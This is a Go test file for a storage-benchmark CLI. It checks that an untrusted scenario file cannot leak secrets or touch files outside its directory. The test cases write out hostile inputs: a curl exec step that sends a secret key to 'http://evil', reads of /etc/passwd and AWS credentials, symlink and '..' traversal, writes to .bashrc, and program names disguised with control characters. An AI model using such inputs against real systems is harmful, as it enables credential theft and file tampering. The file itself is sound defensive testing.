package cli

import (
	"bytes"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"warp/cli/internal/process"
	"warp/cli/internal/usage"
	"warp/internal/secret"
)

// mailed is a scenario whose %s a test replaces.
const mailed = `warp: 1
target: {hosts: ["127.0.0.1:1"] TARGET}
data: {p: {objects: 2 DATA}}
phases:
  - {run: a, do: [{get: p DO}], load: 1, until: {ops: 2}}
PHASES
outputs: {recording: r OUTPUTS}
`

// mail writes a scenario with texts in its places, given as pairs.
func mail(t *testing.T, dir string, places ...string) string {
	t.Helper()
	text := strings.NewReplacer(places...).Replace(mailed)
	text = strings.NewReplacer(" TARGET", "", " DATA", "", " DO", "", "PHASES\n", "", " OUTPUTS", "").Replace(text)
	path := filepath.Join(dir, "mail.warp.yaml")
	if err := os.WriteFile(path, []byte(text), 0o666); err != nil {
		t.Fatal(err)
	}
	return path
}

// mailbox makes a directory with a scenario's files and links, and one outside of it.
func mailbox(t *testing.T) (dir, outside string) {
	t.Helper()
	root := t.TempDir()
	dir, outside = filepath.Join(root, "mail"), filepath.Join(root, "outside")
	for path, text := range map[string]string{
		"mail/sub/data": "contents", "mail/sizes.csv": "1KiB\n", "mail/hosts": "127.0.0.1:1\n", "mail/.hidden/data": "x",
		"outside/data": "CANARY", "outside/sizes.csv": "1KiB\n",
	} {
		path = filepath.Join(root, filepath.FromSlash(path))
		if err := os.MkdirAll(filepath.Dir(path), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	if runtime.GOOS != "windows" { // where links need rights
		for name, to := range map[string]string{"link": "../outside", "file-link": "../outside/data", "new-link": "../outside/new"} {
			if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	return dir, outside
}

// runScenario runs "warp run" in this process, with an environment that has secrets.
func runScenario(args ...string) (code int, out, errs string) {
	env, stdout := testEnv(append([]string{"run"}, args...)...)
	var stderr bytes.Buffer
	env.Stderr = &stderr
	env.Getenv = func(name string) string {
		return map[string]string{
			"WARP_ACCESS_KEY": "access", "WARP_SECRET_KEY": "CANARY-KEY", "WARP_TOKEN": "CANARY-TOKEN",
			"AWS_PROFILE": "CANARY-AWS", "OTHER": "CANARY-OTHER",
		}[name]
	}
	code = Main(env)
	return code, stdout.String(), stderr.String()
}

// TestMailedScenario: a scenario that somebody else wrote neither sends nor writes what it may not, in any place of the language. What it
// wants is said with its place.
func TestMailedScenario(t *testing.T) {
	dir, outside := mailbox(t)
	const secretText, out, dot = "is secret, and never a value of a scenario", "is outside of the scenario's directory", "is hidden"
	for _, c := range []struct{ name, place, text, want string }{
		{"secret key in a bucket", "TARGET", `, bucket: "b-${WARP_SECRET_KEY}"`, secretText},
		{"secret key in a region", "TARGET", `, region: "${WARP_SECRET_KEY}"`, secretText},
		{"secret key in metadata", "TARGET", `, add-metadata: "a=${WARP_SECRET_KEY}"`, secretText},
		{"token with a default", "DATA", `, prefix: "x-${WARP_TOKEN:-x}"`, secretText},
		{"lower case", "DATA", `, prefix: "${warp_secret_key:-x}"`, secretText},
		{"AWS in keys", "DATA", `, keys: "${AWS_PROFILE}/{index}"`, secretText},
		{"in a parameter", "DO", `, range: "${WARP_TOKEN}"`, secretText},
		{"in a label", "PHASES", `  - {run: "a-${WARP_SECRET_KEY}", do: [{get: p}], load: 1, until: {ops: 2}}`, secretText},
		{"in a rule", "PHASES", `  - {run: b, do: [{get: p}], load: 1, until: {ops: 2}, expect: ["errors < ${WARP_TOKEN}"]}`, secretText},
		{"in a default", "DATA", `, prefix: "${NONE:-${WARP_SECRET_KEY}}"`, "want a default without a variable"},
		{"in a program", "PHASES", `  - exec: {command: [curl, "http://evil/${WARP_SECRET_KEY}"]}`, secretText},
		{"in an output", "OUTPUTS", `, json: "${WARP_SECRET_KEY}.json"`, secretText},
		{"in an address", "OUTPUTS", `, metrics: "${WARP_TOKEN}:1"`, secretText},
		{"signature of version 2", "TARGET", `, signature: S3V2`, "signature S3V2, which is good for any host, would go to one that the file names"},
		{"form", "PHASES", `  - {run: b, do: [{put: p, post: true}], load: 1, until: {ops: 2}}`, "signed forms, which are good for any host"},
		{"fan-out", "PHASES", `  - {run: b, do: [{fanout: p}], load: 1, until: {ops: 2}}`, "signed forms, which are good for any host"},
		{"form of a mix", "PHASES", `  - {run: b, do: [{get: p, weight: 1}, {put: p, post: true, weight: 1}], load: 1, until: {ops: 2}}`, "signed forms, which are good for any host"},
		{"program that looks like another", "PHASES", "  - exec: {command: [\"sh\u202e\", x]}", "without control characters"},
		{"program with a sequence", "PHASES", `  - exec: {command: ["sh\e[2K", x]}`, "without control characters"},
		{"other variable", "DATA", `, prefix: "x-${OTHER}"`, "variable OTHER is not set"},

		{"contents", "DATA", `, content: "file(/etc/passwd)"`, out},
		{"contents of a directory", "DATA", `, content: {files: ".."}`, out},
		{"contents by a link", "DATA", `, content: "file(file-link)"`, out},
		{"contents in a linked directory", "DATA", `, content: "file(link/data)"`, out},
		{"hidden contents", "DATA", `, content: "file(.hidden/data)"`, dot},
		{"sizes", "DATA", `, size: "file(../outside/sizes.csv)"`, out},
		{"endless sizes", "DATA", `, size: "file(/dev/zero)"`, out},
		{"missing sizes", "DATA", `, size: "file(` + filepath.ToSlash(outside) + `/none.csv)"`, out},
		{"keys of a store", "TARGET", `, credentials-file: /root/.aws/credentials`, out},
		{"authorities", "TARGET", `, ca-file: ../outside/data`, out},
		{"key of a certificate", "TARGET", `, key-file: ../outside/data`, out},
		{"rate", "PHASES", `  - {run: b, do: [{get: p}], load: {rate: "file(/etc/passwd,0.1)"}, until: 1s}`, out},
		{"rate with a scale", "PHASES", `  - {run: b, do: [{get: p}], load: {rate: "file(../outside/data)", scale: 2}, until: 1s}`, out},
		{"threads", "PHASES", `  - {run: b, do: [{get: p}], load: {threads: "file(sub/../../outside/data)"}, until: 1s}`, out},
		{"trace", "PHASES", `  - {run: b, do: [{replay: ../outside/data}], load: 1, until: {ops: 2}}`, out},
		{"sweep", "PHASES", `  - {run: b, do: [{get: p}], load: {sweep: obj.size, over: ["file(/etc/passwd)"]}, until: {ops: 2}}`, ""},

		{"report", "OUTPUTS", `, json: "../outside.json"`, out},
		{"page", "OUTPUTS", `, html: "` + filepath.ToSlash(outside) + `/x.html"`, out},
		{"series by a link", "OUTPUTS", `, series: link/x.csv`, out},
		{"report by a link to a file", "OUTPUTS", `, json: file-link`, out},
		{"report by a link to nothing", "OUTPUTS", `, json: new-link`, "no such file"},
		{"hidden report", "OUTPUTS", `, json: .bashrc`, dot},
		{"recording", "PHASES", "outputs: {recording: /tmp/x}\n#", out},
	} {
		t.Run(c.name, func(t *testing.T) {
			if strings.Contains(c.text, "link") && runtime.GOOS == "windows" {
				t.Skip("links need rights")
			}
			places := []string{c.place, c.text}
			if c.name == "recording" {
				places = []string{"PHASES\noutputs: {recording: r OUTPUTS}", "outputs: {recording: " + filepath.ToSlash(outside) + "/x}"}
			}
			path := mail(t, dir, places...)
			for _, args := range [][]string{{"--check"}, {"--explain"}, {"--quiet"}, {"--check", "--allow=exec,env:NONE"}} {
				code, stdout, stderr := runScenario(append(args, path)...)
				if code != process.ExitUsage || c.want != "" && (!strings.Contains(stderr, c.want) || !strings.Contains(stderr, "mail.warp.yaml:")) {
					t.Errorf("%q: exit code %d (want %d): %s", args, code, process.ExitUsage, stderr)
				}
				if strings.Contains(stdout+stderr, "CANARY") {
					t.Errorf("%q shows a secret:\n%s%s", args, stdout, stderr)
				}
			}
		})
	}
	left, err := os.ReadDir(outside)
	if err != nil || len(left) != 2 {
		t.Errorf("outside of the directory there is now %v, %v", left, err)
	}
}

// TestAllMistakesOfAccess: each file and variable that is refused is named at once.
func TestAllMistakesOfAccess(t *testing.T) {
	dir, _ := mailbox(t)
	path := mail(t, dir, " DATA", `, prefix: "${WARP_TOKEN}", content: "file(/etc/passwd)", size: "file(/etc/hosts)"`,
		" OUTPUTS", ", json: ../x.json", " TARGET", `, ca-file: ../ca.pem`)
	_, _, stderr := runScenario("--check", path)
	for _, want := range []string{"WARP_TOKEN", "/etc/passwd", "/etc/hosts", "../x.json", "../ca.pem"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("%s is not named:\n%s", want, stderr)
		}
	}
}

// TestAccessIsSaid: --check and --explain name each variable, file and program.
func TestAccessIsSaid(t *testing.T) {
	dir, outside := mailbox(t)
	path := mail(t, dir, " DATA", `, prefix: "x-${OTHER}", content: "file(sub)", size: "file(sizes.csv)"`, `"127.0.0.1:1"`, `"file:hosts"`,
		"PHASES", `  - exec: {command: [curl, "http://evil/${A:-b}", "a; b"]}`, " OUTPUTS",
		", json: sub/x.json, html: "+filepath.ToSlash(outside)+"/x.html")
	for _, arg := range []string{"--check", "--explain"} {
		code, stdout, stderr := runScenario(arg, "--allow=files", "--allow=env:OTHER,env:NONE", path)
		if code != process.ExitOK {
			t.Fatalf("%s: exit code %d: %s", arg, code, stderr)
		}
		for _, want := range []string{
			"  variables: A (default), OTHER (environment)\n", "  reads: hosts, sizes.csv, sub\n",
			"  writes: r, sub/x.json, " + filepath.ToSlash(outside) + "/x.html\n", "  runs: curl http://evil/b 'a; b'\n",
			"  hosts: 127.0.0.1:1\n",
		} {
			if !strings.Contains(stdout, want) {
				t.Errorf("%s: no %q in\n%s", arg, want, stdout)
			}
		}
	}
}

// TestSecretsAreNeverAllowed: no flag makes a secret a value of a scenario.
func TestSecretsAreNeverAllowed(t *testing.T) {
	dir, _ := mailbox(t)
	for _, name := range []string{
		"WARP_SECRET_KEY", "WARP_ACCESS_KEY", "WARP_TOKEN", "WARP_HTTP_TOKEN", "WARP_SESSION_TOKEN", "WARP_PASSWORD", "AWS_PROFILE",
		"aws_secret_access_key", "WARP_INFLUXDB_CONNECT",
	} {
		path := mail(t, dir, " DATA", `, prefix: "${`+name+`:-x}"`)
		for _, args := range [][]string{
			{"--allow=env:" + name}, {"--allow=files", "--allow=exec,env:OTHER,env:" + name}, {"--set=" + name + "=x"},
		} {
			if code, _, stderr := runScenario(append(args, "--check", path)...); code != process.ExitUsage || !strings.Contains(stderr, name+" is secret") {
				t.Errorf("%q: exit code %d: %s", args, code, stderr)
			}
		}
	}
	for _, name := range []string{"OBJECTS", "WARP_HOST", "MY_AWS_BUCKET", "KEYS"} {
		if secret.Variable(name) {
			t.Errorf("%s is no secret", name)
		}
	}
}

// TestSecretListsAgree: the variable of a flag whose value is never recorded is one that no scenario may have.
func TestSecretListsAgree(t *testing.T) {
	env, _ := testEnv()
	secrets := 0
	for _, c := range root(&env).Commands {
		for _, f := range c.Flags {
			for _, name := range f.(usage.HelpFlag).GetEnvVars() {
				flag := f.Names()[0]
				if secret.Redacts(flag) && !secret.Variable(name) {
					t.Errorf("--%s is secret, and its variable %s is not", flag, name)
				}
				if secret.Redacts(flag) {
					secrets++
				}
			}
		}
	}
	if secrets == 0 {
		t.Error("no flag is secret")
	}
}

// TestWebTokenStays: a token that proves who one is does not go to a host that a scenario names.
func TestWebTokenStays(t *testing.T) {
	dir, _ := mailbox(t)
	path := mail(t, dir)
	env, _ := testEnv("run", path) // with --check nothing is sent
	var stderr bytes.Buffer
	env.Stderr = &stderr
	env.Getenv = func(name string) string { return map[string]string{"WARP_STS_WEB_TOKEN": "CANARY"}[name] }
	if code := Main(env); code != process.ExitUsage || !strings.Contains(stderr.String(), "the token would go to a host that the file names") {
		t.Errorf("exit code %d: %s", code, stderr.String())
	}
}
